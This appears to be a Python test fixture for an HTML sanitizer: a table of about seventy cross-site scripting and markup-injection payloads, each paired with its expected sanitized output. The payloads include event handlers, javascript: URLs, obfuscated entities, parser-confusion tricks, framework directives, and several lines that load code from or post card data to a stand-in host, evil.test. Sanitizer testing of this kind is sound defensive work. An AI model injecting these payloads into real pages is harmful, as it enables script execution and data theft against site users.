"""Content that would run, frame, submit or cover something, were it shown as it is."""

from __future__ import annotations

# Each with what may stay of it.
ATTACKS = {
    "script": ("<script>alert(1)</script>", ""),
    "script-in-capitals": ("<SCRIPT SRC=//evil.test/x.js></SCRIPT>", ""),
    "script-never-closed": ("<b>x</b><script>alert(1)", "<b>x</b>"),
    "script-in-script": ("<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
    "script-after-slash": ("<script/x>alert(1)</script>", ""),
    "image-that-fails": ('<img src=x onerror="alert(1)">', '<img src="x">'),
    "image-with-slashes": (
        "<img/src=x/onerror=alert(1)>",
        '<img src="x/onerror=alert(1)">',
    ),
    "image-with-broken-quotes": (
        '<img """><script>alert(1)</script>">',
        '<img>"&gt;',
    ),
    "image-by-its-other-name": ("<image src=x onerror=alert(1)>", '<img src="x">'),
    "handler-in-capitals": ("<p OnClick=alert(1)>x</p>", "<p>x</p>"),
    "handler-after-newline": ("<p\nonmouseover\n=\nalert(1)>x</p>", "<p>x</p>"),
    "handler-after-nul": ("<p \x00onclick=alert(1)>x</p>", "<p>x</p>"),
    "handler-after-form-feed": ("<p\x0conclick=alert(1)>x</p>", "<p>x</p>"),
    "handler-of-animation": (
        '<p style="animation: x" onanimationstart=alert(1)>x</p>',
        "<p>x</p>",
    ),
    "handler-of-focus": (
        '<a id=x tabindex=1 onfocus=alert(1) href="#x">x</a>',
        '<a href="#x">x</a>',
    ),
    "handler-of-toggle": (
        "<details open ontoggle=alert(1)>x</details>",
        '<details open="">x</details>',
    ),
    "handler-of-video": (
        "<video><source onerror=alert(1)></video>",
        "<video><source></video>",
    ),
    "address-runs": ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    "address-in-capitals": ('<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
    "address-with-tab": ('<a href="java\tscript:alert(1)">x</a>', "<a>x</a>"),
    "address-with-newline": ('<a href="java&#10;script:alert(1)">x</a>', "<a>x</a>"),
    "address-with-controls": (
        '<a href="&#1;&#2; javascript:alert(1)">x</a>',
        "<a>x</a>",
    ),
    "address-in-entities": (
        '<a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">x</a>',
        "<a>x</a>",
    ),
    "address-in-vbscript": ('<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>"),
    "address-holds-page": (
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "<a>x</a>",
    ),
    "address-of-blob": ('<a href="blob:https://example.com/1">x</a>', "<a>x</a>"),
    "image-runs": ('<img src="javascript:alert(1)">', "<img>"),
    "image-holds-vector": ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "<img>"),
    "image-of-mail": ('<img src="mailto:a@example.com">', "<img>"),
    "images-run": ('<img srcset="/a.png 1x, javascript:alert(1) 2x">', "<img>"),
    "video-runs": ('<video poster="javascript:alert(1)"></video>', "<video></video>"),
    "citation-runs": ('<q cite="javascript:alert(1)">x</q>', "<q>x</q>"),
    "address-behind-directive": (
        '<a href="java{{store url=}}script:alert(1)">x</a>',
        "<a>x</a>",
    ),
    "frame": ('<iframe src="//evil.test"></iframe>', ""),
    "frame-with-page": ('<iframe srcdoc="<script>alert(1)</script>">x</iframe>', ""),
    "object": ('<object data="//evil.test/x.swf">x</object>', ""),
    "embedded": ('<embed src="javascript:alert(1)">x', "x"),
    "applet": ('<applet code="x">x</applet>', ""),
    "base": ('<base href="//evil.test/">x', "x"),
    "meta": ('<meta http-equiv="refresh" content="0;url=//evil.test">x', "x"),
    "style-sheet-by-link": ('<link rel="stylesheet" href="//evil.test/x.css">x', "x"),
    "style-sheet": ("<style>body{display:none}</style>x", "x"),
    "form": ('<form action="//evil.test"><input name="card">Card</form>', "Card"),
    "button-sends-form": (
        '<button formaction="javascript:alert(1)" form="f">x</button>',
        '<button type="button">x</button>',
    ),
    "vector": ('<svg onload="alert(1)"><script>alert(1)</script></svg>', ""),
    "vector-animates-address": (
        '<svg><a><animate attributeName="href" values="javascript:x"/></a></svg>',
        "",
    ),
    "formula": ('<math href="javascript:alert(1)">x</math>', ""),
    "formula-changes-parser": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "",
    ),
    "template": ("<template><script>alert(1)</script></template>x", "x"),
    "no-script": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<img src="x">"&gt;',
    ),
    "title-changes-parser": (
        '<title><a title="</title><img src=x onerror=alert(1)>">x</a>',
        '<img src="x">"&gt;x',
    ),
    "comment-hides": ("<!--><img src=x onerror=alert(1)>-->", '<img src="x">--&gt;'),
    "comment-for-old-browser": (
        "<!--[if IE]><script>alert(1)</script><![endif]-->x",
        "x",
    ),
    "declaration": ("<!DOCTYPE html><?xml x?><![CDATA[<script>]]>x", "]]&gt;x"),
    "style-covers-page": (
        '<a style="position: fixed; top: 0; z-index: 9; width: 100%" href="/">x</a>',
        '<a style="width: 100%" href="/">x</a>',
    ),
    "style-moves-out": (
        '<p style="margin-top: -100px; transform: scale(99)">x</p>',
        "<p>x</p>",
    ),
    "style-runs": (
        '<p style="width: expression(alert(1)); behavior: url(x); color: red">x</p>',
        '<p style="color: red">x</p>',
    ),
    "style-loads": (
        '<p style="background-image: url(javascript:alert(1)); color: red">x</p>',
        '<p style="color: red">x</p>',
    ),
    "style-escapes": ('<p style="width: e\\78 pression(alert(1))">x</p>', "<p>x</p>"),
    "style-imports": ("<p style=\"@import '//evil.test/x.css'\">x</p>", "<p>x</p>"),
    "id-shadows-variable": (
        '<img id="config" name="config" src="/a">',
        '<img src="/a">',
    ),
    "window-opens-back": (
        '<a href="/x" rel="opener" target="top">x</a>',
        '<a href="/x">x</a>',
    ),
    "knockout": ('<p data-bind="html: alert(1)">x</p>', "<p>x</p>"),
    "magento": ("<p data-mage-init='{\"x\":{}}'>x</p>", "<p>x</p>"),
    "angular": ('<p ng-app data-ng-init="alert(1)">x</p>', "<p>x</p>"),
    "htmx": ('<p hx-get="//evil.test" data-hx-on:click="alert(1)">x</p>', "<p>x</p>"),
    "alpine": ('<p x-data x-init="alert(1)" @click="alert(1)">x</p>', "<p>x</p>"),
    "vue": ('<p v-html="a" :href="a">x</p>', "<p>x</p>"),
    "bootstrap": (
        '<p data-toggle="tooltip" data-html="true" title="&lt;img src=x&gt;">x</p>',
        '<p title="&lt;img src=x&gt;">x</p>',
    ),
    "datastar": ('<p data-on-click="alert(1)">x</p>', "<p>x</p>"),
    "entities-stay-text": (
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    "attribute-ends-early": (
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
        '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
    ),
}
